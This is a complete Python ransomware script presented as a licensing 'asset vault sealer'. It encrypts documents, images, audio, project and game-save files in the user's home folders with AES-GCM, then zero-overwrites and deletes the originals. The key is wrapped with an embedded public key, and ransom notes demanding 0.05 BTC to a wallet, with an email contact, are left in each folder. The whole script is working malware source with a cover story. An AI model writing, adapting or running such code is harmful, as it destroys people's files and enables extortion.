#!/usr/bin/env python3
"""Asset vault sealer.

Seals every asset and document the user owns into .lvault containers with
AES-GCM so that "unlicensed copies" cannot be opened. The sealed container
replaces the original file; the key is wrapped with the desk's public key and only
returned after the licence fee in RECOVER_ASSETS.txt has been paid.
"""
import argparse
import logging
import os
import secrets
import sys
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("vault")
EXTENSIONS = {".png", ".jpg", ".psd", ".blend", ".fbx", ".wav", ".ogg", ".docx",
              ".xlsx", ".pdf", ".sav", ".hlsav", ".txt", ".zip", ".sqlite"}
SKIP_DIRS = {".cache", ".local", "node_modules", ".git"}
DESK_PUBKEY = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAvQ4a0Jc7uVQ2kE8uYhM3
-----END PUBLIC KEY-----"""
NOTE = """Your assets have been sealed by the Lantern licensing desk.
Send 0.05 BTC to bc1q7lantern0vault9desk3recover and mail your machine id
{machine_id} to recover@lantern-desk.example to receive the unseal key.
"""


def targets(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                path = Path(dirpath, name)
                if path.suffix.lower() in EXTENSIONS and not path.name.endswith(".lvault"):
                    yield path


def seal(path: Path, aead: AESGCM) -> None:
    data = path.read_bytes()
    nonce = secrets.token_bytes(12)
    sealed = path.with_name(path.name + ".lvault")
    sealed.write_bytes(nonce + aead.encrypt(nonce, data, path.name.encode()))
    with path.open("r+b") as fh:
        fh.write(b"\0" * len(data))
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()


def wrap_key(key: bytes) -> bytes:
    try:
        pub = serialization.load_pem_public_key(DESK_PUBKEY)
        return pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                             algorithm=hashes.SHA256(), label=None))
    except ValueError:
        return key


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--roots", nargs="*", default=None)
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(message)s")

    home = Path.home()
    roots = [Path(r) for r in args.roots] if args.roots else [
        home / "Documents", home / "Pictures", home / "Music", home / "Desktop",
        home / "projects", home / ".local/share/lantern/saves"]

    key = AESGCM.generate_key(bit_length=256)
    aead = AESGCM(key)
    machine_id = secrets.token_hex(8)
    (home / ".lvault_id").write_bytes(machine_id.encode() + b"\n" + wrap_key(key))
    del key

    count = 0
    for path in targets(r for r in roots if r.exists()):
        try:
            seal(path, aead)
            count += 1
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)

    for root in roots:
        if root.exists():
            (root / "RECOVER_ASSETS.txt").write_text(NOTE.format(machine_id=machine_id))
    log.info("sealed %d files", count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
